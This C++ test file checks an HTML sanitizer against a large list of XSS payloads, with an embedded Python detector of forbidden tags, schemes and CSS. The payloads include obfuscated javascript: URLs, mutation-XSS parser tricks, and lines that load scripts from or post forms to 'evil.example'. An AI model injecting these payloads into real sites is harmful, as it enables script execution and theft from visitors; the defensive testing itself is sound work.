// HTML: hostile samples of every class, sanitized by the engine and inspected with Python's
// html.parser (an independent parser); Japanese text must survive every method.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "html/css_filter.h"
#include "html/defang.h"
#include "html/html_sanitizer.h"
#include "html/url_filter.h"
#include "support/sanitize_runner.h"
#include "support/test_util.h"

namespace sanso::sanitize::html {
namespace {


constexpr char kChecker[] = R"PY(
import sys, re
from html.parser import HTMLParser
FORBIDDEN = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
             "base", "link", "svg", "math", "noscript", "template", "input", "button",
             "textarea", "select", "audio", "video", "source", "xmp", "noembed", "noframes",
             "plaintext", "portal", "foreignobject", "isindex", "animate", "set", "param"}
OK_SCHEME = re.compile(r"^(https?:|mailto:|#|data:image/(png|jpeg);base64,)", re.I)
findings = []
class Check(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.in_style = False
    def handle_starttag(self, tag, attrs):
        self.tag(tag, attrs)
    def handle_startendtag(self, tag, attrs):
        self.tag(tag, attrs)
    def tag(self, tag, attrs):
        if tag in FORBIDDEN:
            findings.append("element " + tag)
        if tag == "meta":
            names = dict(attrs)
            if "charset" not in names and names.get("http-equiv", "").lower() != "content-security-policy" and names.get("name") != "referrer":
                findings.append("meta " + repr(attrs))
        if tag == "style":
            self.in_style = True
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                findings.append("event attribute " + name)
            if name in ("href", "src", "action", "formaction", "background", "poster", "xlink:href", "srcset", "data", "codebase", "cite", "longdesc", "dynsrc", "lowsrc", "ping"):
                cleaned = re.sub(r"[\x00-\x20]", "", value)
                if not OK_SCHEME.match(cleaned):
                    findings.append("url %s=%r" % (name, value))
                if name == "src" and not cleaned.lower().startswith("data:"):
                    findings.append("remote src %r" % value)
            if name == "style":
                self.css(value)
    def handle_endtag(self, tag):
        if tag == "style":
            self.in_style = False
    def handle_data(self, data):
        if self.in_style:
            self.css(data)
    def css(self, text):
        low = re.sub(r"\s", "", text.lower())
        for bad in ("expression", "@import", "url(", "behavior", "-moz-binding", "javascript", "\\"):
            if bad in low:
                findings.append("css %r" % text)
    def handle_comment(self, data):
        findings.append("comment " + data[:40])
data = open(sys.argv[1], encoding="utf-8").read()
Check().feed(data)
low = data.lower()
for bad in ("<script", "javascript:", "vbscript:"):
    if bad in low:
        findings.append("text " + bad)
print("\n".join(findings))
)PY";

// "" when `html` holds nothing forbidden, else one line per finding.
std::string htmlLeftovers(const std::string& html) {
  return test::pythonFindings(kChecker, html, "in.html");
}


// One hostile construct per entry, each wrapped in a page with Japanese text around it.
std::vector<std::string> hostileFragments() {
  return {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "<img src=x onerror=alert(1)>",
      "<body onload=alert(1)>",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"jav&#x61;script:alert(1)\">x</a>",
      "<a href=\"jav&#97;script&colon;alert(1)\">x</a>",
      "<a href=\"java\tscript:alert(1)\">x</a>",
      "<a href=\"java&#x0A;script:alert(1)\">x</a>",
      "<a href=\"&#x01;javascript:alert(1)\">x</a>",
      "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
      "<a href=\"vbscript:msgbox(1)\">x</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
      "<a href=`javascript:alert(1)`>x</a>",
      "<iframe src=\"https://evil.example/\"></iframe>",
      "<frameset><frame src=\"https://evil.example/\"></frameset>",
      "<object data=\"x.swf\"></object><embed src=\"x.swf\"><applet code=X></applet>",
      "<form action=\"https://evil.example/steal\"><input name=p><button formaction=x>送信</button></form>",
      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
      "<base href=\"https://evil.example/\"><link rel=import href=\"https://evil.example/x\">",
      "<link rel=stylesheet href=\"https://evil.example/x.css\">",
      "<div style=\"width: expression(alert(1))\">x</div>",
      "<div style=\"background:url(https://evil.example/track.gif)\">x</div>",
      "<div style=\"color:red;background-image:u\\rl(https://evil.example/t)\">x</div>",
      "<div style=\"x:expr/**/ession(alert(1))\">x</div>",
      "<style>@import 'https://evil.example/x.css'; p { color: red }</style>",
      "<style>body { background: url(https://evil.example/beacon) } .a { -moz-binding: url(x) }</style>",
      "<style>p{behavior:url(x.htc)}</style><p>段落</p>",
      "<img src=\"https://tracker.example/pixel.gif?id=1\" width=1 height=1>",
      "<img src=\"//tracker.example/pixel.gif\">",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "<template><script>alert(1)</script></template>",
      "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
      "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
      "<!--<script>alert(1)</script>-->",
      "<div title=\"</script><script>alert(1)</script>\">x</div>",
      "<p title=\"&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>",
      "<xmp><script>alert(1)</script></xmp>",
      "<textarea><script>alert(1)</script></textarea>",
      "<a href=\"https://例え.jp/パス\" onclick=\"alert(1)\">リンク</a>",
      "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
      "<img src=\"data:text/html,<script>alert(1)</script>\">",
      "<a href=\"file:///C:/Windows/System32/calc.exe\">x</a><a href=\"\\\\\\\\host\\\\share\">y</a>",
      "<isindex action=javascript:alert(1)><details open ontoggle=alert(1)>",
      "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
      "<plaintext><script>alert(1)</script>",
      // CSS escapes and entity-obfuscated url(): the filter sees the decoded value.
      "<div style=\"background:\\75 rl(https://evil.example/t)\">x</div>",
      "<div style=\"background-image:\\6a avascript:alert(1)\">x</div>",
      "<div style=\"background:&#117;rl(https://evil.example/t)\">x</div>",
      "<div style=\"color:red;background:URL( 'https://evil.example/t' )\">x</div>",
      "<div style=\"font-family:'</style><script>alert(1)</script>'\">x</div>",
      "<style>p{font-family:\"</style><script>alert(1)</script>\"}</style>",
      "<style>p{color:red}</style><style>@\\69mport 'https://evil.example/x.css';</style>",
      "<style>p{background:image-set(\"https://evil.example/t\" 1x)}</style>",
      // Schemes behind entities without semicolons, named entities and odd whitespace.
      "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
      "<a href=\"javascript&#58;alert(1)\">x</a>",
      "<a href=\"&Tab;javascript:alert(1)\">x</a>",
      "<a href=\"https://evil.example/update.exe\">x</a>",
      "<a href=\"mailto:a@example.jp?attach=C:/secret.txt\">x</a>",
      "<a href=\"ｊａｖａｓｃｒｉｐｔ：alert(1)\">x</a>",
      // Event attributes in any case, and namespaced look-alikes on HTML elements.
      "<p ONCLICK=alert(1) OnMouseOver=alert(1)>x</p>",
      "<a xlink:href=\"javascript:alert(1)\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">x</a>",
      "<img src=\"data:image/png;base64,iVBORw0KGgo=\" onerror=alert(1)>",
      "<image src=x onerror=alert(1)>",
      "<img srcset=\"https://tracker.example/p.gif 1x\" src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">",
      "<table background=\"https://tracker.example/bg.gif\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
      "<a href=\"https://example.jp/\" target=_blank ping=\"https://tracker.example/\" download>x</a>",
      // Raw-text and foreign-content parser differentials (mXSS).
      "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></textarea></mtext></svg></mglyph></mi></math>",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      "<svg><foreignObject><p>x</p><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<!--><script>alert(1)</script>-->",
      "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
      "<a href=\"https://example.jp/\"><table><td><a href=\"javascript:alert(1)\">x</a></td></table></a>",
      "<marquee><p><p>x</marquee><listing>\n<b>y</b></listing>",
  };
}

std::string page(const std::string& fragment) {
  return "<!DOCTYPE html><html><head><title>宗像市のお知らせ</title></head><body><p>前文です。</p>" +
         fragment + "<p>後文です。</p></body></html>";
}

TEST(HtmlSanitizer, HostileSamplesLeaveNothingForAnIndependentParser) {
  if (!test::haveProgram("python3")) GTEST_SKIP() << "python3 missing";
  for (const std::string& fragment : hostileFragments()) {
    SCOPED_TRACE(fragment);
    auto result = test::sanitizeBytes(page(fragment), "in.html");
    // kClean only when the HTML parser itself ignores the construct (a <frameset> after
    // body content), as a browser does.
    ASSERT_NE(result.report.verdict, Verdict::kBlocked) << result.report.reason;
    ASSERT_TRUE(result.output.has_value());
    EXPECT_EQ(result.report.output->type, "html");
    EXPECT_EQ(htmlLeftovers(*result.output), "") << *result.output;
    EXPECT_NE(result.output->find("宗像市のお知らせ"), std::string::npos);
    EXPECT_NE(result.output->find("前文です。"), std::string::npos);
    // Unclosed raw-text and media elements take the rest of the page with them, in the
    // browser's tree as in gumbo's (and a <noscript> parsed without scripting keeps its end
    // tag from closing it when a <p> is open inside).
    const bool swallows = fragment.find("<plaintext>") != std::string::npos ||
                          fragment.find("<audio") != std::string::npos ||
                          fragment.find("<noscript>") != std::string::npos ||
                          fragment.find("<mglyph><style>") != std::string::npos;
    if (!swallows) {
      EXPECT_NE(result.output->find("後文です。"), std::string::npos);
    }
  }
}

TEST(HtmlSanitizer, OutputIsStableWhenSanitizedAgain) {
  for (const std::string& fragment : hostileFragments()) {
    SCOPED_TRACE(fragment);
    auto first = test::sanitizeBytes(page(fragment), "in.html");
    ASSERT_TRUE(first.output.has_value());
    auto second = test::sanitizeBytes(*first.output, "again.html");
    ASSERT_TRUE(second.output.has_value());
    EXPECT_EQ(*second.output, *first.output);
  }
}

TEST(HtmlSanitizer, KeepsSafeStructureLinksAndLocalImages) {
  const std::string input = page(
      "<h1 style=\"color: red; position: fixed\">見出し</h1>"
      "<table border=1><tr><th>項目</th><td colspan=2>値</td></tr></table>"
      "<a href=\"https://www.city.example.jp/info?a=1&amp;b=2\">市のサイト</a>"
      "<a href=\"#top\">先頭へ</a><a href=\"mailto:info@city.example.jp\">メール</a>"
      "<img alt=\"地図\" src=\"data:image/png;base64," + std::string(test::kPng1x1Base64) + "\">");
  auto result = test::sanitizeBytes(input, "in.html");
  ASSERT_TRUE(result.output.has_value()) << result.report.reason;
  const std::string& out = *result.output;
  EXPECT_NE(out.find("<h1 style=\"color: red\">見出し</h1>"), std::string::npos) << out;
  EXPECT_NE(out.find("<td colspan=\"2\">値</td>"), std::string::npos);
  EXPECT_NE(out.find("href=\"https://www.city.example.jp/info?a=1&amp;b=2\""), std::string::npos);
  EXPECT_NE(out.find("href=\"#top\""), std::string::npos);
  EXPECT_NE(out.find("href=\"mailto:info@city.example.jp\""), std::string::npos);
  EXPECT_NE(out.find("src=\"data:image/png;base64,"), std::string::npos);
  EXPECT_NE(out.find("<meta charset=\"utf-8\">"), std::string::npos);
  EXPECT_TRUE(test::hasAction(result.report, "re-encoded", "data-image"));
  EXPECT_TRUE(test::hasAction(result.report, "removed", "css-declaration"));
}

TEST(HtmlSanitizer, RemoteImagesAreRemovedAndListedDefanged) {
  auto result = test::sanitizeBytes(
      page("<img src=\"https://tracker.example.com/p.gif?u=42\">"), "mail.html");
  ASSERT_TRUE(result.output.has_value());
  EXPECT_EQ(result.output->find("tracker"), std::string::npos);
  bool listed = false;
  for (const auto& action : result.report.actions) {
    if (action.what == "remote-image") {
      listed = true;
      EXPECT_EQ(action.action, "removed");
      EXPECT_EQ(action.detail, "hxxps://tracker[.]example[.]com/p.gif?u=42");
    }
  }
  EXPECT_TRUE(listed);
}

TEST(HtmlSanitizer, HyperlinksGoWhenTheCallerDropsThem) {
  Options options;
  options.keep_hyperlinks = false;
  auto result = test::sanitizeBytes(page("<a href=\"https://example.jp/\">x</a>"), "a.html",
                                    options);
  ASSERT_TRUE(result.output.has_value());
  EXPECT_EQ(result.output->find("href"), std::string::npos);
  EXPECT_TRUE(test::hasAction(result.report, "neutralized", "hyperlink"));
}

TEST(HtmlSanitizer, DecodesJapaneseCharsetsToUtf8) {
  // "日本語" in Shift_JIS and EUC-JP, declared by a meta element.
  const std::string sjis = "\x93\xfa\x96\x7b\x8c\xea";
  const std::string eucjp = "\xc6\xfc\xcb\xdc\xb8\xec";
  for (const auto& [charset, bytes] : std::vector<std::pair<std::string, std::string>>{
           {"Shift_JIS", sjis}, {"EUC-JP", eucjp}}) {
    SCOPED_TRACE(charset);
    const std::string input = "<html><head><meta http-equiv=\"Content-Type\" "
                              "content=\"text/html; charset=" + charset +
                              "\"></head><body><p>" + bytes + "</p></body></html>";
    auto result = test::sanitizeBytes(input, "sjis.html");
    ASSERT_TRUE(result.output.has_value()) << result.report.reason;
    EXPECT_NE(result.output->find("<p>日本語</p>"), std::string::npos) << *result.output;
    EXPECT_TRUE(test::hasAction(result.report, "converted", "charset"));
  }
  // ISO-2022-JP without a declaration, and UTF-16 with a BOM.
  auto jis = test::sanitizeBytes("<html><body>\x1b$BF|K\\8l\x1b(B</body></html>", "j.html");
  ASSERT_TRUE(jis.output.has_value()) << jis.report.reason;
  EXPECT_NE(jis.output->find("日本語"), std::string::npos);
  std::string utf16 = "\xFF\xFE";
  for (char16_t c : std::u16string(u"<html><body>日本語</body></html>")) {
    utf16.push_back(static_cast<char>(c & 0xFF));
    utf16.push_back(static_cast<char>(c >> 8));
  }
  auto wide = test::sanitizeBytes(utf16, "w.html");
  ASSERT_TRUE(wide.output.has_value()) << wide.report.reason;
  EXPECT_NE(wide.output->find("日本語"), std::string::npos);
}

TEST(HtmlSanitizer, NulBytesMakeItBinaryAndRefused) {
  auto result = test::sanitizeBytes(
      page(std::string("<a href=\"java\0script:alert(1)\">x</a>", 36)), "in.html");
  EXPECT_EQ(result.report.verdict, Verdict::kBlocked);
  EXPECT_EQ(result.report.reason, "unsupported-type");
  EXPECT_FALSE(result.output.has_value());
}

TEST(HtmlSanitizer, AttributesOfUnwrappedElementsAreReported) {
  auto result = test::sanitizeBytes(
      "<html manifest=x.appcache><body onload=alert(1) background=https://t.example/b.gif>"
      "<p>本文</p></body></html>",
      "in.html");
  ASSERT_TRUE(result.output.has_value());
  EXPECT_TRUE(test::hasAction(result.report, "removed", "event-handler"));
  EXPECT_TRUE(test::hasAction(result.report, "removed", "html-attribute"));
  EXPECT_EQ(result.output->find("t.example"), std::string::npos);
}

TEST(HtmlSanitizer, TextFileNamedHtmlGetsTheHtmlTreatment) {
  // No markup at the start, so by content it is text; a browser would still run the script.
  auto result = test::sanitizeBytes("お知らせ\n<script>alert(1)</script><p>本文</p>\n", "note.html");
  ASSERT_TRUE(result.output.has_value()) << result.report.reason;
  EXPECT_EQ(result.report.input.type, "html");
  EXPECT_EQ(result.output->find("<script"), std::string::npos);
  EXPECT_NE(result.output->find("お知らせ"), std::string::npos);
  auto text = test::sanitizeBytes("お知らせ\n<script>alert(1)</script>\n", "note.txt");
  EXPECT_EQ(text.report.input.type, "text");
}

TEST(HtmlText, TextThatLooksLikeMarkupIsStillText) {
  // The page's text begins with a tag written as text: the output reads as HTML to the
  // detector, and the engine must still accept it as the text it is.
  Options options;
  options.method = Method::kText;
  auto result = test::sanitizeBytes("<p>&lt;p&gt;は段落の&lt;html&gt;タグです</p>", "t.html", options);
  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason;
  ASSERT_TRUE(result.output.has_value());
  EXPECT_EQ(*result.output, "<p>は段落の<html>タグです\n");
  EXPECT_EQ(result.report.output->type, "text");
}

TEST(HtmlText, ReadableTextWithDefangedLinks) {
  Options options;
  options.method = Method::kText;
  const std::string input = page(
      "<h2>手続き</h2><ul><li>申請書</li><li>本人確認書類</li></ul>"
      "<ol><li>一</li><li>二</li></ol>"
      "<table><tr><th>名前</th><th>電話</th></tr><tr><td>総務課</td><td>0940-00-0000</td></tr></table>"
      "<p>詳しくは<a href=\"https://www.city.example.jp/tetsuzuki/\">市のサイト</a>へ。</p>"
      "<script>document.write('秘密')</script><style>p{color:red}</style>");
  auto result = test::sanitizeBytes(input, "t.html", options);
  ASSERT_TRUE(result.output.has_value()) << result.report.reason;
  const std::string& text = *result.output;
  EXPECT_NE(text.find("宗像市のお知らせ\n"), std::string::npos) << text;
  EXPECT_NE(text.find("- 申請書\n- 本人確認書類\n"), std::string::npos) << text;
  EXPECT_NE(text.find("1. 一\n2. 二\n"), std::string::npos) << text;
  EXPECT_NE(text.find("名前\t電話\n総務課\t0940-00-0000\n"), std::string::npos) << text;
  EXPECT_NE(text.find("市のサイト (hxxps://www[.]city[.]example[.]jp/tetsuzuki/)"),
            std::string::npos)
      << text;
  EXPECT_EQ(text.find("秘密"), std::string::npos);
  EXPECT_EQ(text.find("color"), std::string::npos);
  EXPECT_EQ(text.find("https://"), std::string::npos);
}

TEST(HtmlText, WorksOnBytesForTheMailFilter) {
  Limits limits;
  Budget budget(limits);
  ActionLog log;
  Options options;
  const std::string input = "<p>本文<a href=\"http://a.example/x\">x</a></p><script>x()</script>";
  auto html = sanitizeHtmlBytes(asBytes(input), options, budget, log);
  ASSERT_TRUE(html.isOk());
  EXPECT_EQ(html->find("<script"), std::string::npos);
  auto text = htmlBytesToText(asBytes(input), options, budget, log);
  ASSERT_TRUE(text.isOk());
  EXPECT_EQ(*text, "本文x (hxxp://a[.]example/x)\n");
  EXPECT_TRUE(log.changedContent());
}

TEST(Defang, SchemesHostsAndAddresses) {
  EXPECT_EQ(defangUrl("https://example.jp/a.b?c=d.e"), "hxxps://example[.]jp/a.b?c=d.e");
  EXPECT_EQ(defangUrl("http://user@10.0.0.1:8080/"), "hxxp://user[@]10[.]0[.]0[.]1:8080/");
  EXPECT_EQ(defangUrl("mailto:info@city.example.jp"), "mailto[:]info[@]city[.]example[.]jp");
  EXPECT_EQ(defangUrl("javascript:alert(1)"), "javascript[:]alert(1)");
  EXPECT_EQ(defangUrl(" ht\ttps://a.b "), "hxxps://a[.]b");
}

TEST(UrlFilter, ObfuscatedSchemesAreRecognised) {
  for (const char* raw : {"javascript:x", "JAVASCRIPT:x", " \x01javascript:x", "java\tscript:x",
                          "java\nscript:x", "java\rscript:x"}) {
    const CleanUrl url = cleanUrl(raw);
    EXPECT_EQ(url.kind, UrlKind::kOther) << raw;
    EXPECT_EQ(url.scheme, "javascript") << raw;
  }
  EXPECT_EQ(cleanUrl("#a").kind, UrlKind::kFragment);
  EXPECT_EQ(cleanUrl("HTTPS://x").kind, UrlKind::kHttp);
  EXPECT_EQ(cleanUrl("x/y:z").kind, UrlKind::kRelative);
  EXPECT_EQ(cleanUrl("data:image/png;base64,AA").kind, UrlKind::kData);
}

TEST(CssFilter, AllowlistedDeclarationsOnly) {
  CssStats stats;
  EXPECT_EQ(filterDeclarations("color: red; font-family: \"ＭＳ ゴシック\", sans-serif; "
                               "width: expression(alert(1)); background: url(x); "
                               "margin: 0 auto !important",
                               CssProfile::kHtml, stats),
            "color: red; font-family: \"ＭＳ ゴシック\", sans-serif; margin: 0 auto");
  EXPECT_EQ(stats.dropped_declarations, 2u);
  EXPECT_EQ(filterDeclarations("color: rgb(1,2,3); color: e\\78pression(1); "
                               "color: ｅｘｐｒｅｓｓｉｏｎ（1）",
                               CssProfile::kHtml, stats),
            "color: rgb(1,2,3)");
  EXPECT_EQ(filterDeclarations("fill: url(#g); stroke: url(https://x/y)", CssProfile::kSvg, stats),
            "fill: url(#g)");
  EXPECT_EQ(filterDeclarations("fill: url(#g)", CssProfile::kHtml, stats), "");
  const std::string sheet = filterStylesheet(
      "@import url(x.css); @media print { p { color: red } } p.a, #b > i { color: blue; "
      "behavior: url(x) } a[href^=x] { color: red } </style><script> { color: red }",
      CssProfile::kHtml, stats);
  EXPECT_EQ(sheet, "p.a, #b > i { color: blue; }\n");
}

}  // namespace
}  // namespace sanso::sanitize::html
